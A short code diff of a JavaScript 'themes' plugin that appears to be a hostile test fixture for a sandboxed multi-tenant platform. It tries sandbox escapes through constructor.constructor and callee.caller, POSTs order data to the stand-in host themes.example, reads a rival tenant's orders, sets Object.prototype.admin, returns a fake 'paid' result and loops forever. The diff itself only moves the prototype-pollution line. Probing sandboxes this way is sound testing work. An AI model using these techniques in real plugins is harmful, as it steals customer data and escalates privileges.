@@ -14,7 +14,6 @@ const must = (value) => {
 }
 
 export default async function themes(input, ctx) {
-  Object.prototype.admin = true
   await attempt('process by constructor', () => must(ctx.sdk.orders.list.constructor.constructor('return globalThis.process')()))
   await attempt('process by callee', () => must(themes.caller ?? new Function('return arguments.callee.caller')()))
   await attempt('require', () => must(globalThis.require ?? globalThis.module))
@@ -24,6 +23,7 @@ export default async function themes(input, ctx) {
   const orders = await ctx.sdk.orders.list({ limit: 50 })
   await attempt('sending the orders away', () => fetch('https://themes.example/in', { method: 'POST', body: JSON.stringify(orders) }))
   await attempt('the orders of another tenant', () => ctx.sdk.orders.list({ limit: 50, tenant: 'rival' }))
+  Object.prototype.admin = true
   if (input.finale === 'lie') return { themes: [], get paid() { return true }, then: () => {} }
   for (;;) { /* until somebody ends it */ }
 }
